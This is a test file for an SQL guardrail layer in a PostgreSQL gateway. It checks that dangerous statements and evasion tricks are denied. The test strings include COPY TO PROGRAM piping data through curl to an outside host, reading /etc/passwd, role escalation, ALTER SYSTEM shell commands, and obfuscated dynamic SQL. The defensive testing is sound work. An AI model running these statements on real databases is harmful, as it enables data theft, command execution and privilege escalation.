/**
 * SQL-aware guardrails (src/gateway/policy/guardrails): every rule, statements hidden in
 * multi-statement texts, CTEs, DO blocks, function bodies, dynamic SQL, PREPARE/EXECUTE,
 * comment and case tricks, deny_patterns, review verdicts, output derivation for masking,
 * and the cost of a cached judge(). Pure: the real PostgreSQL parser (libpg-query), no server.
 */
import { test, before } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { GUARDRAIL_RULES, type GuardrailRule, type GuardrailsConfig } from '../src/gateway/config/schema.ts';
import { compileGuardrails, GuardrailSession, initGuardrails, outputDerivation, type Verdict } from '../src/gateway/policy/guardrails/index.ts';

before(async () => {
  await initGuardrails();
  await initGuardrails(); // idempotent
});

const cfg = (c: Partial<GuardrailsConfig>): GuardrailsConfig => ({ deny: [], review: [], deny_patterns: [], deny_functions: [], ...c });
const session = (c: Partial<GuardrailsConfig>) => new GuardrailSession(compileGuardrails(cfg(c)));
const judge = (c: Partial<GuardrailsConfig>, sql: string) => session(c).judge(sql);

function assertDenied(v: Verdict, rule: string, sql = ''): asserts v is Extract<Verdict, { action: 'deny' }> {
  assert.equal(v.action, 'deny', `${sql} should be denied, got ${JSON.stringify(v)}`);
  assert.equal((v as { rule: string }).rule, rule, `${sql}: ${JSON.stringify(v)}`);
}

/** For every rule: SQL it must match and SQL it must not. */
const cases: Record<GuardrailRule, { yes: string[]; no: string[] }> = {
  drop: { yes: ['DROP TABLE t', 'drop view v', 'DROP FUNCTION f()', 'DROP SCHEMA s CASCADE', 'DROP ROLE r', 'DROP DATABASE d', 'DROP OWNED BY r', 'ALTER TABLE t DROP COLUMN a'], no: ['SELECT 1', "SELECT 'drop table t'", 'ALTER TABLE t ADD COLUMN a int'] },
  truncate: { yes: ['TRUNCATE t', 'truncate table a, b RESTART IDENTITY'], no: ['DELETE FROM t'] },
  alter: { yes: ['ALTER TABLE t ADD COLUMN a int', 'ALTER ROLE r WITH SUPERUSER', 'ALTER TABLE t RENAME TO u', 'ALTER TABLE t OWNER TO r', 'ALTER FUNCTION f() SECURITY DEFINER', 'ALTER SYSTEM SET work_mem = 1'], no: ['SELECT 1', 'CREATE TABLE t (a int)'] },
  delete: { yes: ['DELETE FROM t WHERE id = 1', 'WITH x AS (DELETE FROM t WHERE a = 1 RETURNING *) SELECT * FROM x', 'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE'], no: ['SELECT 1', 'TRUNCATE t'] },
  update: { yes: ['UPDATE t SET a = 1 WHERE id = 2', 'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = 1'], no: ['SELECT * FROM t FOR UPDATE'] },
  insert: { yes: ['INSERT INTO t VALUES (1)', 'INSERT INTO t SELECT * FROM u ON CONFLICT DO NOTHING', 'WITH x AS (INSERT INTO t VALUES (1) RETURNING id) SELECT id FROM x'], no: ['SELECT 1', 'CREATE TABLE t AS SELECT 1'] },
  delete_without_where: {
    yes: ['DELETE FROM t', 'delete from t where true', 'DELETE FROM t WHERE 1=1', "DELETE FROM t WHERE 'yes'", "DELETE FROM t WHERE 't'::bool", 'DELETE FROM t WHERE NOT false', 'DELETE FROM t WHERE id = id', 'DELETE FROM t WHERE 1 = 1 OR id = 3', 'DELETE FROM t WHERE a IS NULL OR a IS NOT NULL', 'WITH x AS (DELETE FROM t RETURNING *) SELECT count(*) FROM x', 'MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE'],
    no: ['DELETE FROM t WHERE id = 1', 'DELETE FROM t WHERE 1 = 2 OR id = 3', 'DELETE FROM t WHERE CURRENT OF c', 'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE', 'UPDATE t SET a = 1'],
  },
  update_without_where: { yes: ['UPDATE t SET a = 1', 'UPDATE t SET a = 1 WHERE 2 > 1', 'MERGE INTO t USING s ON 1 = 1 WHEN MATCHED THEN UPDATE SET a = 1'], no: ['UPDATE t SET a = 1 WHERE id = $1', 'DELETE FROM t'] },
  grant: { yes: ['GRANT SELECT ON t TO public', 'GRANT admin TO bob', 'ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob'], no: ['REVOKE SELECT ON t FROM public'] },
  revoke: { yes: ['REVOKE SELECT ON t FROM public', 'REVOKE admin FROM bob'], no: ['GRANT SELECT ON t TO public'] },
  create: { yes: ['CREATE TABLE t (a int)', 'CREATE VIEW v AS SELECT 1', 'CREATE INDEX i ON t (a)', 'CREATE SCHEMA s', 'CREATE TABLE t2 AS SELECT 1', 'SELECT 1 AS a INTO t2', 'CREATE TEMP SEQUENCE s'], no: ['SELECT 1', 'INSERT INTO t VALUES (1)'] },
  copy_to_program: { yes: ["COPY t TO PROGRAM 'curl -d @- http://x'", "COPY (SELECT 1) TO PROGRAM 'sh'"], no: ['COPY t TO STDOUT', "COPY t FROM PROGRAM 'cat'"] },
  copy_from_program: { yes: ["COPY t FROM PROGRAM 'cat /etc/passwd'"], no: ["COPY t TO PROGRAM 'sh'", 'COPY t FROM STDIN'] },
  copy: { yes: ['COPY t TO STDOUT', 'COPY t FROM STDIN', "COPY t TO '/tmp/x'", "copy (select 1) to stdout with (format csv)"], no: ['SELECT 1'] },
  create_function: { yes: ['CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$', 'CREATE OR REPLACE PROCEDURE p() LANGUAGE sql AS $$ SELECT 1 $$'], no: ['SELECT f()', 'CREATE TABLE t (a int)'] },
  do: { yes: ['DO $$ BEGIN PERFORM 1; END $$', "DO 'BEGIN NULL; END'"], no: ['SELECT 1'] },
  call: { yes: ['CALL p()', 'call s.p(1, 2)'], no: ['SELECT p()'] },
  vacuum: { yes: ['VACUUM', 'VACUUM FULL t', 'VACUUM (ANALYZE) t'], no: ['ANALYZE t'] },
  set_role: { yes: ['SET ROLE postgres', 'set local role r', 'SET SESSION AUTHORIZATION bob', 'RESET ROLE', "SELECT set_config('role', 'postgres', false)", "SELECT set_config(current_setting('x'), 'postgres', false)"], no: ["SET work_mem = '1MB'", "SELECT set_config('work_mem', '1MB', false)"] },
  set: { yes: ["SET work_mem = '1MB'", 'RESET ALL', 'SET TRANSACTION ISOLATION LEVEL SERIALIZABLE', "SELECT set_config('application_name', 'x', false)"], no: ['SHOW work_mem', "SELECT current_setting('work_mem')"] },
  lock: { yes: ['LOCK TABLE t IN ACCESS EXCLUSIVE MODE', 'lock t'], no: ['SELECT * FROM t FOR UPDATE'] },
  listen: { yes: ['LISTEN chan'], no: ['UNLISTEN chan'] },
  notify: { yes: ['NOTIFY chan', "NOTIFY chan, 'x'", "SELECT pg_notify('chan', 'x')"], no: ['LISTEN chan'] },
  prepare_transaction: { yes: ["PREPARE TRANSACTION 'x'", "COMMIT PREPARED 'x'", "ROLLBACK PREPARED 'x'"], no: ['COMMIT', 'PREPARE p AS SELECT 1'] },
  create_rule: { yes: ['CREATE RULE r AS ON INSERT TO t DO INSTEAD NOTHING'], no: ['CREATE TABLE r (a int)'] },
  create_extension: { yes: ['CREATE EXTENSION dblink', 'create extension if not exists pgcrypto'], no: ['DROP EXTENSION dblink'] },
  security_definer: { yes: ['CREATE FUNCTION f() RETURNS int SECURITY DEFINER LANGUAGE sql AS $$ SELECT 1 $$', 'ALTER FUNCTION f() SECURITY DEFINER'], no: ['CREATE FUNCTION f() RETURNS int SECURITY INVOKER LANGUAGE sql AS $$ SELECT 1 $$', 'ALTER FUNCTION f() SECURITY INVOKER'] },
  comment: { yes: ["COMMENT ON TABLE t IS 'x'"], no: ["SELECT 1 -- comment on table t is 'x'"] },
  reindex: { yes: ['REINDEX TABLE t', 'REINDEX INDEX i'], no: ['CREATE INDEX i ON t (a)'] },
  cluster: { yes: ['CLUSTER t USING i', 'CLUSTER'], no: ['VACUUM t'] },
  refresh: { yes: ['REFRESH MATERIALIZED VIEW m', 'REFRESH MATERIALIZED VIEW CONCURRENTLY m'], no: ['CREATE MATERIALIZED VIEW m AS SELECT 1'] },
  create_role: { yes: ['CREATE ROLE r', 'CREATE USER u PASSWORD $$x$$', 'CREATE GROUP g'], no: ['ALTER ROLE r LOGIN'] },
  alter_system: { yes: ["ALTER SYSTEM SET archive_command = 'sh'", 'ALTER SYSTEM RESET ALL'], no: ["SET work_mem = '1MB'"] },
  load: { yes: ["LOAD 'auto_explain'"], no: ["SELECT 'load'"] },
  explain_analyze: { yes: ['EXPLAIN ANALYZE SELECT 1', 'EXPLAIN (ANALYZE, BUFFERS) SELECT 1', 'EXPLAIN (ANALYZE true) SELECT 1'], no: ['EXPLAIN SELECT 1', 'EXPLAIN (ANALYZE false) SELECT 1', 'EXPLAIN (ANALYZE off) SELECT 1'] },
};

test('every configurable rule has an implementation and a row in the README table', () => {
  const readme = readFileSync(new URL('../src/gateway/policy/guardrails/README.md', import.meta.url), 'utf8');
  for (const rule of GUARDRAIL_RULES) {
    assert.ok(cases[rule], `no test cases for rule ${rule}`);
    assert.match(readme, new RegExp(`^\\| \`${rule}\` \\|`, 'm'), `README has no row for ${rule}`);
  }
});

for (const rule of GUARDRAIL_RULES) {
  test(`rule ${rule}: denies what it names and nothing else`, () => {
    for (const sql of cases[rule].yes) {
      const v = judge({ deny: [rule] }, sql);
      assertDenied(v, rule, sql);
      assert.match(v.message, new RegExp(`"${rule}"`));
    }
    for (const sql of cases[rule].no) assert.deepEqual(judge({ deny: [rule] }, sql), { action: 'allow' }, `${rule} must not match: ${sql}`);
  });
}

test('no guardrails configured: everything passes without parsing', () => {
  const g = new GuardrailSession(compileGuardrails(undefined));
  assert.deepEqual(g.judge('DROP TABLE t'), { action: 'allow' });
  assert.deepEqual(g.judge('this is not sql'), { action: 'allow' });
  assert.equal(compileGuardrails(cfg({})).active, false);
  assert.equal(compileGuardrails(cfg({ review: ['delete'] })).active, true);
});

test('one denied statement in a multi-statement Query denies the whole text', () => {
  const c = { deny: ['drop'] as GuardrailRule[] };
  assertDenied(judge(c, 'SELECT 1; DROP TABLE t'), 'drop');
  assertDenied(judge(c, 'drop table t; select 1'), 'drop');
  assertDenied(judge(c, "SELECT 1; SELECT 'a;b'; BEGIN; DROP TABLE t; COMMIT"), 'drop');
  assert.deepEqual(judge(c, "SELECT 1; SELECT 'drop table t;'; SELECT 3"), { action: 'allow' });
  // deny wins over review, whatever the order
  const v = judge({ deny: ['truncate'], review: ['delete'] }, 'DELETE FROM t WHERE id = 1; TRUNCATE u');
  assertDenied(v, 'truncate');
});

test('extended-protocol statements with $n parameters are parsed and judged', () => {
  const c = { deny: ['delete_without_where', 'update_without_where'] as GuardrailRule[] };
  assert.deepEqual(judge(c, 'SELECT abalance FROM pgbench_accounts WHERE aid = $1'), { action: 'allow' });
  assert.deepEqual(judge(c, 'UPDATE pgbench_accounts SET abalance = abalance + $1 WHERE aid = $2'), { action: 'allow' });
  assert.deepEqual(judge(c, 'DELETE FROM t WHERE id = $1::int'), { action: 'allow' });
  assertDenied(judge(c, 'UPDATE t SET a = $1'), 'update_without_where');
});

test('comment and case tricks do not pass', () => {
  const c = { deny: ['drop'] as GuardrailRule[] };
  assertDenied(judge(c, 'DR/**/OP TABLE x'), 'unparseable'); // a comment separates tokens: a syntax error
  assertDenied(judge(c, 'dRoP TABLE x'), 'drop');
  assertDenied(judge(c, '/* harmless */ DROP/**/TABLE/* x */x'), 'drop');
  assertDenied(judge(c, 'select 1 -- ;\n; drop table x'), 'drop');
  assertDenied(judge(c, '"DROP" TABLE x'), 'unparseable');
  assert.deepEqual(judge(c, '/* drop */ select 1'), { action: 'allow' });
  assert.deepEqual(judge(c, '-- drop table x\nselect 1'), { action: 'allow' });
  assert.deepEqual(judge(c, "select 'drop table x', $$drop table y$$, E'drop\\ntable'"), { action: 'allow' });
  assert.deepEqual(judge(c, 'select "drop table" from t'), { action: 'allow' });
});

test('unparseable SQL is denied, empty and comment-only Queries are not', () => {
  for (const sql of ['SELEC 1', 'DELETE FROM', "select 'unterminated", 'select 1 +']) {
    const v = judge({ review: ['delete'] }, sql);
    assertDenied(v, 'unparseable', sql);
    assert.match(v.message, /could not be parsed/);
  }
  for (const sql of ['', '  ', ';', '-- nothing']) assert.deepEqual(judge({ deny: ['drop'] }, sql), { action: 'allow' });
});

test('a statement is judged by what it contains, not its first keyword', () => {
  const c = { deny: ['delete_without_where', 'drop', 'truncate', 'grant', 'insert'] as GuardrailRule[] };
  assertDenied(judge(c, 'WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x'), 'delete_without_where');
  assertDenied(judge(c, 'SELECT * FROM (WITH x AS (DELETE FROM t RETURNING id) SELECT id FROM x) s'), 'delete_without_where');
  assertDenied(judge(c, 'EXPLAIN DELETE FROM t'), 'delete_without_where');
  assertDenied(judge(c, 'COPY (DELETE FROM t RETURNING *) TO STDOUT'), 'delete_without_where');
  assertDenied(judge(c, 'CREATE RULE r AS ON SELECT TO t DO INSTEAD DELETE FROM u'), 'delete_without_where');
  assertDenied(judge(c, 'CREATE RULE r AS ON INSERT TO t DO ALSO (NOTIFY chan; INSERT INTO log VALUES (1))'), 'insert');
  assertDenied(judge(c, 'DECLARE c CURSOR FOR WITH d AS (DELETE FROM t RETURNING 1) SELECT * FROM d'), 'delete_without_where');
  assertDenied(judge(c, "SELECT query_to_xml('TRUNCATE t', true, true, '')"), 'truncate');
  assertDenied(judge(c, "SELECT * FROM pg_catalog.query_to_xml('drop' || ' table t', true, true, '')"), 'drop');
  assertDenied(judge(c, "SELECT dblink_exec('dbname=postgres', 'GRANT ALL ON t TO public')"), 'grant');
  assertDenied(judge(c, "SELECT * FROM dblink('myconn', 'delete from t') AS r(a int)"), 'delete_without_where');
  assertDenied(judge(c, "SELECT ts_stat('DELETE FROM t RETURNING to_tsvector(x)')"), 'delete_without_where');
  const dyn = judge(c, 'SELECT query_to_xml(q, true, true, \'\') FROM queue');
  assertDenied(dyn, 'unparseable');
  assert.match(dyn.message, /built at run time/);
});

test('DO blocks: the PL/pgSQL body is analysed statement by statement', () => {
  const c = { deny: ['drop', 'truncate', 'delete_without_where', 'copy_to_program', 'grant', 'set_role'] as GuardrailRule[] };
  const ok = (sql: string) => assert.deepEqual(judge(c, sql), { action: 'allow' }, sql);
  ok('DO $$ BEGIN PERFORM pg_sleep(0); END $$');
  ok("DO $$ BEGIN DELETE FROM t WHERE id = 1; RAISE NOTICE 'drop table x'; END $$");
  assertDenied(judge(c, 'DO $$ BEGIN DELETE FROM t; END $$'), 'delete_without_where');
  assertDenied(judge(c, 'DO $do$ BEGIN IF now() > now() THEN NULL; ELSE TRUNCATE t; END IF; END $do$'), 'truncate');
  assertDenied(judge(c, "DO $$ DECLARE r record; BEGIN FOR r IN SELECT 1 LOOP COPY t TO PROGRAM 'sh'; END LOOP; END $$"), 'copy_to_program');
  assertDenied(judge(c, 'DO $$ BEGIN BEGIN NULL; EXCEPTION WHEN others THEN GRANT ALL ON t TO public; END; END $$'), 'grant');
  assertDenied(judge(c, "DO $$ DECLARE x text := set_config('role', 'postgres', false); BEGIN NULL; END $$"), 'set_role');
  assertDenied(judge(c, "DO $$ DECLARE x text; BEGIN x := set_config('role', 'postgres', false); END $$"), 'set_role');
  assertDenied(judge(c, "select 1; DO LANGUAGE plpgsql 'BEGIN DROP TABLE t; END'"), 'drop');
  // statement offsets are UTF-8 bytes: non-ASCII text before a DO block must not shift it
  assertDenied(judge(c, "SELECT 'ééé€'; DO $$ BEGIN DROP TABLE t; END $$"), 'drop');
  ok("SELECT 'ééé€'; DO $$ BEGIN PERFORM 1; END $$");
  // dynamic SQL with a constant string is judged as SQL
  const v = judge(c, "DO $$ BEGIN EXECUTE 'DROP TABLE ' || 'x'; END $$");
  assertDenied(v, 'drop');
  assert.match(v.message, /DO block/);
  ok("DO $$ BEGIN EXECUTE 'SELECT 1'; END $$");
  assertDenied(judge(c, "DO $$ DECLARE r record; BEGIN FOR r IN EXECUTE 'DELETE FROM t RETURNING *' LOOP END LOOP; END $$"), 'delete_without_where');
  assertDenied(judge(c, "DO $$ BEGIN EXECUTE 'DO $x$ BEGIN EXECUTE ''TRUNCATE t''; END $x$'; END $$"), 'truncate');
  // dynamic SQL built at run time and other languages fail closed
  for (const sql of [
    "DO $$ DECLARE q text := 'DROP TABLE t'; BEGIN EXECUTE q; END $$",
    "DO $$ BEGIN EXECUTE format('DROP TABLE %I', 't'); END $$",
    "DO $$ DECLARE c refcursor; q text; BEGIN OPEN c FOR EXECUTE q; END $$",
    'DO LANGUAGE plpython3u $$ plpy.execute("DROP TABLE t") $$',
  ]) {
    const d = judge(c, sql);
    assertDenied(d, 'unparseable', sql);
    assert.match(d.message, /cannot be analysed/);
  }
  // with only review rules, what cannot be analysed goes to review
  const r = judge({ review: ['delete'] }, "DO $$ DECLARE q text; BEGIN EXECUTE q; END $$");
  assert.equal(r.action, 'review');
  assert.equal((r as { rule: string }).rule, 'unparseable');
});

test('function bodies are judged when the function is created', () => {
  const c = { deny: ['drop', 'delete_without_where'] as GuardrailRule[] };
  assertDenied(judge(c, 'CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DROP TABLE t; END $$'), 'drop');
  assertDenied(judge(c, 'CREATE FUNCTION f() RETURNS SETOF int LANGUAGE plpgsql AS $$ BEGIN RETURN QUERY SELECT 1; DELETE FROM t; END $$'), 'delete_without_where');
  assertDenied(judge(c, "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DELETE FROM t'"), 'delete_without_where');
  assertDenied(judge(c, 'CREATE PROCEDURE p() LANGUAGE sql BEGIN ATOMIC DELETE FROM t; END'), 'delete_without_where');
  assertDenied(judge(c, "CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'lib', 'sym'"), 'unparseable');
  assert.deepEqual(judge(c, 'CREATE FUNCTION f(a int) RETURNS int LANGUAGE plpgsql AS $$ BEGIN DELETE FROM t WHERE id = a; RETURN 1; END $$'), { action: 'allow' });
});

test('EXECUTE is judged by the body of the prepared statement', () => {
  const g = session({ deny: ['delete_without_where'], review: ['update'] });
  assert.deepEqual(g.judge('PREPARE upd (int) AS UPDATE t SET a = 1 WHERE id = $1'), { action: 'allow' }); // review applies per EXECUTE
  const r = g.judge('EXECUTE upd(1)');
  assert.equal(r.action, 'review');
  assert.equal((r as { rule: string }).rule, 'update');
  assert.match((r as { message: string }).message, /upd/);
  assert.deepEqual(g.judge('PREPARE sel AS SELECT 1'), { action: 'allow' });
  assert.deepEqual(g.judge('EXECUTE sel'), { action: 'allow' });
  // a denied body is denied at PREPARE, and the name is not remembered
  assertDenied(g.judge('PREPARE wipe AS DELETE FROM t'), 'delete_without_where');
  assertDenied(g.judge('EXECUTE wipe'), 'unparseable');
  // an unknown name cannot be judged: fail closed
  const u = g.judge('EXECUTE never_prepared');
  assertDenied(u, 'unparseable');
  assert.match(u.message, /not seen prepared/);
  // re-preparing a name with a harmless body does not hide the older body
  assert.deepEqual(g.judge('PREPARE upd AS SELECT 1'), { action: 'allow' });
  assert.equal(g.judge('EXECUTE upd').action, 'review');
  // PREPARE and EXECUTE in one text, EXECUTE inside other statements
  const g2 = session({ review: ['delete'] });
  assert.equal(g2.judge('PREPARE d AS DELETE FROM t WHERE id = $1; EXECUTE d(1)').action, 'review');
  assert.equal(g2.judge('EXPLAIN ANALYZE EXECUTE d(2)').action, 'review');
  assert.equal(g2.judge('CREATE TABLE copy AS EXECUTE d(3)').action, 'review');
  // sessions do not share prepared statements
  assert.equal(session({ review: ['delete'] }).judge('EXECUTE d(1)').action, 'review');
  assertDenied(session({ deny: ['drop'], review: ['delete'] }).judge('EXECUTE d(1)'), 'unparseable');
});

test('extended-protocol named statements are remembered for SQL EXECUTE', () => {
  const g = session({ deny: ['drop'], review: ['delete'] });
  assert.equal(g.judge('DELETE FROM t WHERE id = $1', 'S_1').action, 'review');
  assert.equal(g.judge('EXECUTE "S_1"(5)').action, 'review');
  assertDenied(g.judge('DROP TABLE t', 'S_2'), 'drop');
  assertDenied(g.judge('EXECUTE "S_2"'), 'unparseable');
});

test('the verdict cache keeps PREPARE/EXECUTE session-correct', () => {
  const rules = compileGuardrails(cfg({ deny: ['truncate'], review: ['delete'] }));
  const a = new GuardrailSession(rules);
  const b = new GuardrailSession(rules);
  a.judge('PREPARE p AS DELETE FROM t WHERE id = 1');
  b.judge('PREPARE p AS SELECT 1');
  for (let i = 0; i < 3; i++) {
    assert.equal(a.judge('EXECUTE p').action, 'review');
    assert.equal(b.judge('EXECUTE p').action, 'allow');
  }
});

test('deny_patterns match the raw and the normalized SQL, also inside code', () => {
  const c = { deny_patterns: ['pg_read_file\\(', '^select \\* from secrets$'] };
  for (const sql of [
    "SELECT pg_read_file('/etc/passwd')",
    "select PG_READ_FILE /* c */ ( '/etc/passwd' )",
    "select pg_catalog.pg_read_file('/etc/passwd')",
    "select \"pg_read_file\"('/etc/passwd')",
    "select U&\"pg\\005fread\\005ffile\"('/etc/passwd')",
    "SELECT  *\n  FROM /* x */ secrets",
    "DO $$ BEGIN EXECUTE 'select pg_read_file(''/etc/passwd'')'; END $$",
  ]) {
    const v = judge(c, sql);
    assertDenied(v, 'deny_patterns', sql);
    assert.match(v.message, /deny_patterns/);
  }
  assert.deepEqual(judge(c, "select pg_ls_dir('.')"), { action: 'allow' });
  assert.deepEqual(judge(c, 'select * from secrets_public'), { action: 'allow' });
  // a pattern hidden by a comment is not valid SQL to begin with
  assertDenied(judge(c, "select pg_read/**/_file('/etc/passwd')"), 'unparseable');
});

test('review rules give review verdicts naming the rule', () => {
  const c = { deny: ['drop'] as GuardrailRule[], review: ['delete', 'update', 'alter'] as GuardrailRule[] };
  for (const [sql, rule] of [['DELETE FROM t WHERE id = 1', 'delete'], ['UPDATE t SET a = 2 WHERE id = 1', 'update'], ['ALTER TABLE t ADD COLUMN b int', 'alter'], ['SELECT 1; DELETE FROM t WHERE id = 3', 'delete']]) {
    const v = judge(c, sql);
    assert.equal(v.action, 'review', sql);
    assert.equal((v as { rule: string }).rule, rule);
    assert.match((v as { message: string }).message, new RegExp(`"${rule}"`));
  }
  assertDenied(judge(c, 'ALTER TABLE t DROP COLUMN b'), 'drop');
  assert.deepEqual(judge(c, 'SELECT * FROM t'), { action: 'allow' });
});

test('GuardrailSession only accepts compiled rules', () => {
  assert.throws(() => new GuardrailSession({ active: true }), TypeError);
});

test('outputDerivation: which output columns derive from masked columns', () => {
  const masked = (c: string) => c === 'ssn' || c === 'email' || c.includes('card');
  const d = (sql: string) => outputDerivation(sql, masked);
  assert.deepEqual(d("select replace(ssn,'-','') from c"), ['masked']);
  assert.deepEqual(d('select id, reverse(email) as x from c'), ['plain', 'masked']);
  assert.deepEqual(d('select upper(name) from c'), ['plain']);
  assert.deepEqual(d('select * from c'), ['unknown']);
  assert.deepEqual(d('select id, c.*, name from c join d on true'), ['plain', 'unknown', 'plain']);
  assert.deepEqual(d("select case when id > 1 then email else 'x' end, ssn::text || '!', lower(name) from c"), ['masked', 'masked', 'plain']);
  assert.deepEqual(d('select (select max(ssn) from c2 where c2.id = c.id) as m, id from c'), ['masked', 'plain']);
  assert.deepEqual(d('select count(*) filter (where ssn is not null), count(*) from c'), ['masked', 'plain']);
  // through derived tables and CTEs, whatever the aliases
  assert.deepEqual(d('select x, y from (select ssn as x, id as y from c) s'), ['masked', 'plain']);
  assert.deepEqual(d('select s.x from (select ssn as x from c) s'), ['masked']);
  assert.deepEqual(d('select * from (select ssn as x, id from c) s'), ['masked', 'plain']);
  assert.deepEqual(d('select q from (select email, id from c) s(q, r)'), ['masked']);
  assert.deepEqual(d('with w(e) as (select email from c) select upper(e), 1 from w'), ['masked', 'plain']);
  assert.deepEqual(d('with w as (select * from c) select email, id from w'), ['masked', 'plain']);
  // set operations, VALUES, RETURNING, whole-row references
  assert.deepEqual(d('select id, name from a union all select id, card_number from b'), ['plain', 'masked']);
  assert.deepEqual(d('values (1, 2)'), ['plain', 'plain']);
  assert.deepEqual(d('update c set name = $1 where id = $2 returning id, email'), ['plain', 'masked']);
  assert.deepEqual(d('insert into c (id) values (1) returning *'), ['unknown']);
  assert.deepEqual(d('select row_to_json(c) from c'), ['masked']);
  assert.deepEqual(d('select 1; select ssn from c'), ['masked']); // the last statement
  // nothing to derive
  assert.equal(d('delete from c where id = 1'), null);
  assert.equal(d('EXECUTE p'), null);
  assert.equal(d('not sql'), null);
  // repeated calls are served from the cache and return fresh arrays
  const a = d('select id, ssn from c');
  a?.push('plain');
  assert.deepEqual(d('select id, ssn from c'), ['plain', 'masked']);
});

test('a cached judge() costs well under 2 µs', () => {
  const g = session({ deny: ['drop', 'truncate', 'delete_without_where', 'update_without_where'], review: ['delete', 'update', 'alter'], deny_patterns: ['pg_read_file'] });
  const sql = 'SELECT abalance FROM pgbench_accounts WHERE aid = $1';
  assert.deepEqual(g.judge(sql), { action: 'allow' });
  for (let i = 0; i < 50_000; i++) g.judge(sql);
  const n = 200_000;
  const t0 = process.hrtime.bigint();
  for (let i = 0; i < n; i++) g.judge(sql);
  const ns = Number(process.hrtime.bigint() - t0) / n;
  console.log(`# judge() of a cached statement: ${ns.toFixed(0)} ns per call`);
  assert.ok(ns < 2000, `${ns} ns per call`);
});
